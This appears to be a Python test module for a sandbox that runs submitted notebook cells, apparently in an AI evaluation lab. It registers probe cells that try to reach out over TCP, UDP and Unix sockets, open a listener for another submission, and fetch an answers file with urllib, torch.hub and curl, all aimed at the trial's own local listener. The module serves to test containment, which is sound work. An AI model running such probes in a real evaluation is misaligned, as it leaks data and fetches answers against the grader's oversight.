"""Ways out: TCP, UDP and Unix sockets, to a listener of the trial's own."""

from ..make import cell_attack
from ..record import Register

ALL = Register()

cell_attack(
    ALL,
    "tcp",
    "connects to 127.0.0.1 and sends its test cells there",
    """
    import socket
    for host in ("127.0.0.1", "localhost"):
        try:
            with socket.create_connection((host, PORT), timeout=2) as s:
                s.sendall(b"tcp " + repr(globals().get("In", ""))[:2000].encode())
                print(REACHED, host)
        except OSError as error:
            print(error)
    """,
)
cell_attack(
    ALL,
    "udp",
    "sends datagrams to 127.0.0.1",
    """
    import socket
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for n in range(3):
            try:
                s.sendto(b"udp %d" % n, ("127.0.0.1", PORT))
            except OSError as error:
                print(error)
    """,
)
cell_attack(
    ALL,
    "unix-socket",
    "connects to Unix sockets, one with a path and one in the abstract namespace",
    """
    import socket
    for place in (SOCKET, "\\0llmlab-" + MARK):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            try:
                s.connect(place)
                s.sendall(b"unix")
                print(REACHED, repr(place))
            except OSError as error:
                print(error)
    """,
)
cell_attack(
    ALL,
    "listen",
    "listens itself, so that another submission could fetch answers",
    """
    import socket, threading
    server = socket.socket()
    server.settimeout(60)
    try:
        server.bind(("127.0.0.1", 0))
        server.listen()
        print("listening", server.getsockname())
    except OSError as error:
        print(error)
    threading.Thread(target=lambda: server.accept(), daemon=True).start()
    """,
)
cell_attack(
    ALL,
    "fetch-url",
    "fetches answers over HTTP, by torch.hub, and by a program (curl)",
    """
    import subprocess, urllib.request
    url = f"http://127.0.0.1:{PORT}/answers.py"
    for way in (
        lambda: urllib.request.urlopen(url, timeout=2).read(),
        lambda: torch.hub.load_state_dict_from_url(url, "/tmp/" + MARK),
        lambda: subprocess.run(["curl", "-m", "2", "-s", url], timeout=4),
    ):
        try:
            way()
        except Exception as error:
            print(type(error).__name__, error)
    """,
)
